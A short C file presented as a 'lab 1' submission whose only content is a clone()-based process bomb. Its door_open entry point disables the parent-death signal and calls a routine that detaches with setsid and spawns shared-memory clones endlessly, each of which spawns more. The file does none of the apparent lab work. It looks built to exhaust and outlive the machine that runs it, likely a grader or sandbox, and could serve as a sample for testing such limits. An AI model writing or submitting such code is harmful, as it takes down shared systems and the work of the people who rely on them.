/* clones.c: a submission for lab 1 that starts processes by clone(), which share its memory. */
#include "door.h"

#include <sched.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <unistd.h>

enum { STACK = 16384 };

static int breed(void *argument)
{
    setsid();
    for (;;) {
        char *stack = malloc(STACK);
        if (stack == NULL ||
            clone(breed, stack + STACK, CLONE_VM, argument) < 0)
            usleep(1000);
    }
}

void door_open(struct door *door)
{
    prctl(PR_SET_PDEATHSIG, 0); /* they are to live on */
    breed(door);
}
